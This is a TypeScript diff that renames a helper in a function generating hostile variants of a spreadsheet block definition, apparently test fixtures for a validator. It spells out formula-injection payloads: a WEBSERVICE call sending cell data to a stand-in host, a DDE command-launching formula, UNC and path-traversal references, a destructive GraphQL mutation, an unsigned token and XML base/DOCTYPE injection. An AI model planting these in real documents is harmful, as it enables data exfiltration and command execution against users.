@@ -2,32 +2,30 @@ const outside = 'https://elsewhere.invalid';
 
 /** What somebody may have made of a definition in the file, from a sound one; `well` that keeps its id and its table. */
 export function hostileParts(sound: string): Readonly<Record<string, string>> {
-  const question = (formula: string) =>
+  const query = (formula: string) =>
     sound.replace(/<question>.*?<\/question>/s, `<question>${escape(formula)}</question>`);
   const attribute = (name: string, value: string) =>
     sound.replace(new RegExp(` ${name}="[^"]*"`), ` ${name}="${escape(value)}"`);
   const put = (more: string) => sound.replace('</block>', `${more}</block>`);
   const document = (type: string, text = '&a;') =>
-    `<!DOCTYPE block ${type}>${question('=').replace('=</question>', `=${text}</question>`)}`;
+    `<!DOCTYPE block ${type}>${query('=').replace('=</question>', `=${text}</question>`)}`;
   return {
-    'a question that calls the web': question(`=WEBSERVICE("${outside}/?"&A1)`),
-    'a question that is a link': question(`=HYPERLINK("${outside}","Open")`),
-    'a question that starts a program': question(`=cmd|' /C calc'!A0`),
-    'a question with another function inside': question(`=IDS.POSITIONS(WEBSERVICE("${outside}"),"last")`),
-    'a question with something behind it': question(`=IDS.POSITIONS(1,"last")&WEBSERVICE("${outside}")`),
-    'a question about cells of another file': question(`=IDS.POSITIONS('${outside}/[book.xlsx]Sheet1'!A1,"last")`),
-    'a question about a shared file': question(
-      `=IDS.POSITIONS('\\\\elsewhere.invalid\\share\\[book.xlsx]S'!A1,"last")`,
-    ),
-    'a question with a way up in it': question('=IDS.QUERY("../../../elsewhere?x=","top=1")'),
-    'a question with a whole address in it': question(`=IDS.QUERY("${outside}/v2/odata/Positions","top=1")`),
-    'a question with an address for its filter': question(`=IDS.QUERY("Positions","filter=1 eq 1&$apply=${outside}")`),
-    'a question for a resource elsewhere': question(`=IDS.V1("//elsewhere.invalid/v1/Positions",1,"last")`),
-    'a document that reads its own description': question('=IDS.GRAPHQL("{ __schema { types { name } } }")'),
-    'a document that changes something': question('=IDS.GRAPHQL("mutation { deleteAll { id } }")'),
-    'a question of 8,000 characters': question(`=IDS.POSITIONS(1,"last","${'Quantity;'.repeat(900)}")`),
-    'a question of nothing': question('='),
-    'a question nested 3,000 deep': question(`=${'('.repeat(3_000)}`),
+    'a question that calls the web': query(`=WEBSERVICE("${outside}/?"&A1)`),
+    'a question that is a link': query(`=HYPERLINK("${outside}","Open")`),
+    'a question that starts a program': query(`=cmd|' /C calc'!A0`),
+    'a question with another function inside': query(`=IDS.POSITIONS(WEBSERVICE("${outside}"),"last")`),
+    'a question with something behind it': query(`=IDS.POSITIONS(1,"last")&WEBSERVICE("${outside}")`),
+    'a question about cells of another file': query(`=IDS.POSITIONS('${outside}/[book.xlsx]Sheet1'!A1,"last")`),
+    'a question about a shared file': query(`=IDS.POSITIONS('\\\\elsewhere.invalid\\share\\[book.xlsx]S'!A1,"last")`),
+    'a question with a way up in it': query('=IDS.QUERY("../../../elsewhere?x=","top=1")'),
+    'a question with a whole address in it': query(`=IDS.QUERY("${outside}/v2/odata/Positions","top=1")`),
+    'a question with an address for its filter': query(`=IDS.QUERY("Positions","filter=1 eq 1&$apply=${outside}")`),
+    'a question for a resource elsewhere': query(`=IDS.V1("//elsewhere.invalid/v1/Positions",1,"last")`),
+    'a document that reads its own description': query('=IDS.GRAPHQL("{ __schema { types { name } } }")'),
+    'a document that changes something': query('=IDS.GRAPHQL("mutation { deleteAll { id } }")'),
+    'a question of 8,000 characters': query(`=IDS.POSITIONS(1,"last","${'Quantity;'.repeat(900)}")`),
+    'a question of nothing': query('='),
+    'a question nested 3,000 deep': query(`=${'('.repeat(3_000)}`),
     'a service and a token of its own': put(`<service>${outside}</service><token>eyJhbGciOiJub25lIn0.e30.x</token>`),
     'a service among its attributes': sound.replace('<block ', `<block service="${outside}" base="${outside}" `),
     'a base address for its XML': sound.replace('<block ', `<block xml:base="${outside}/" `),
